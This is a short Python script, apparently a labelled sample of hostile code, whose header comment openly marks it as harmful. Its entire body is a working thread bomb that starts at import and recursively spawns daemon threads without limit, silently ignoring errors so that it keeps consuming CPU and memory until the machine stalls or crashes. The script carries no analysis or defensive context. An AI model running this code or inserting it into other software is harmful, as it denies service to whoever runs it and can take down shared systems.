# where: first
# kind: harms
# does: As many threads as can be had are made, each of which makes more.
import threading


def more():
    while True:
        try:
            threading.Thread(target=more, daemon=True).start()
        except Exception:
            pass


more()
